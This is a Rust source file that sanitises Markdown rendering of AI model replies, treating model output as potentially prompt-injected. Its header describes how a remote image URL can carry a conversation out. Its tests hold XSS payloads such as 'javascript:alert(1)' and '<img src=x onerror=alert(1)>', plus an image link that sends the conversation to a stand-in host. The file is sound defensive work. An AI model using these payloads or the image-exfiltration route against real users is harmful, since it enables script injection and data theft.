//! Replies rendered as Markdown (pulldown-cmark). Model output is hostile input (a prompt
//! injection can make a model write anything): raw HTML is shown as text, never interpreted;
//! links keep only http(s) and mailto destinations and open in a new tab with
//! `rel="noopener noreferrer nofollow"`; images are never fetched (a request to a remote image
//! can carry the conversation out in its URL): they become links the user may choose to open.

use pulldown_cmark::{html, CodeBlockKind, Event, Options, Parser, Tag, TagEnd};

pub fn to_html(text: &str) -> String {
    let mut opts = Options::empty();
    opts.insert(Options::ENABLE_TABLES);
    opts.insert(Options::ENABLE_STRIKETHROUGH);
    // For each open link or image: whether it was kept (its end tag must match).
    let mut kept: Vec<bool> = Vec::new();
    let events = Parser::new_ext(text, opts).flat_map(move |ev| match ev {
        Event::Html(raw) | Event::InlineHtml(raw) => vec![Event::Text(raw)],
        Event::Start(tag @ (Tag::Link { .. } | Tag::Image { .. })) => open_link(&mut kept, tag),
        Event::End(TagEnd::Link) | Event::End(TagEnd::Image) => {
            if kept.pop().unwrap_or(false) {
                vec![Event::End(TagEnd::Link)]
            } else {
                vec![]
            }
        }
        // A copy button before each code block; the page copies the block's text on click.
        Event::Start(Tag::CodeBlock(kind)) => {
            let lang = match &kind {
                CodeBlockKind::Fenced(l) if !l.is_empty() => l.to_string(),
                _ => String::new(),
            };
            let label = if lang.is_empty() {
                "code".to_string()
            } else {
                escape(&lang)
            };
            vec![
                Event::Html(
                    format!(
                        "<div class=\"code\"><div class=\"code-bar\"><span>{label}</span>\
                         <button type=\"button\" class=\"copy\" aria-label=\"Copy code\">Copy</button></div>"
                    )
                    .into(),
                ),
                Event::Start(Tag::CodeBlock(kind)),
            ]
        }
        Event::End(TagEnd::CodeBlock) => {
            vec![Event::End(TagEnd::CodeBlock), Event::Html("</div>".into())]
        }
        other => vec![other],
    });
    let mut out = String::new();
    html::push_html(&mut out, events);
    // Every `<a href=` here is the renderer's own: text, raw HTML and code are escaped.
    out.replace(
        "<a href=",
        "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=",
    )
}

/// A link's or image's start: a live link when its destination is safe (an image only as a
/// link, labelled), else nothing but its text.
fn open_link<'a>(kept: &mut Vec<bool>, tag: Tag<'a>) -> Vec<Event<'a>> {
    let image = matches!(tag, Tag::Image { .. });
    let (Tag::Link {
        link_type,
        dest_url,
        title,
        id,
    }
    | Tag::Image {
        link_type,
        dest_url,
        title,
        id,
    }) = tag
    else {
        return Vec::new(); // the caller passes links and images only
    };
    let safe = is_safe_url(&dest_url);
    kept.push(safe);
    let mut out = Vec::new();
    if safe {
        out.push(Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }));
    }
    if image {
        out.push(Event::Text("image: ".into()));
    }
    out
}

/// Whether a link may stay live: an absolute http(s) or mailto destination. Anything else
/// (javascript:, data:, vbscript:, relative paths that would reach this origin) is dropped, its
/// text kept.
fn is_safe_url(url: &str) -> bool {
    let url = url.trim_start().to_ascii_lowercase();
    ["https://", "http://", "mailto:"]
        .iter()
        .any(|scheme| url.starts_with(scheme))
}

fn escape(s: &str) -> String {
    s.chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '_' | '#' | '.'))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::to_html;

    #[test]
    fn script_links_lose_their_link_and_keep_their_text() {
        for bad in [
            "[click](javascript:alert(1))",
            "[click](JavaScript:alert(1))",
            "[click]( javascript:alert(1))",
            "[click](data:text/html,<script>alert(1)</script>)",
            "[click](vbscript:msgbox)",
            "[click](/models/other.qins)",
            "[click][r]\n\n[r]: javascript:alert(1)",
        ] {
            let html = to_html(bad);
            assert!(!html.contains("<a"), "{bad} → {html}");
            assert!(html.contains("click"), "{bad} → {html}");
        }
    }

    #[test]
    fn web_links_open_apart_from_the_page() {
        let html = to_html("[site](https://example.com/a?b=1&c=2) and <https://x.example>");
        assert_eq!(
            html.matches(r#"<a target="_blank" rel="noopener noreferrer nofollow" href="#)
                .count(),
            2,
            "{html}"
        );
        assert!(
            html.contains(r#"href="https://example.com/a?b=1&amp;c=2""#),
            "{html}"
        );
        assert!(to_html("[me](mailto:a@b.example)").contains(r#"href="mailto:a@b.example""#));
    }

    #[test]
    fn images_are_never_fetched() {
        let html = to_html("![secret](https://elsewhere.example/?q=the+conversation)");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("image: secret"), "{html}");
        assert!(html.contains(r#"href="https://elsewhere.example/?q=the+conversation""#));
        let html = to_html("![x](javascript:alert(1))");
        assert!(!html.contains("<img") && !html.contains("<a"), "{html}");
    }

    #[test]
    fn raw_html_is_text() {
        let html = to_html("<img src=x onerror=alert(1)> <script>alert(1)</script>");
        assert!(
            !html.contains("<img") && !html.contains("<script"),
            "{html}"
        );
        assert!(html.contains("&lt;img"), "{html}");
    }
}
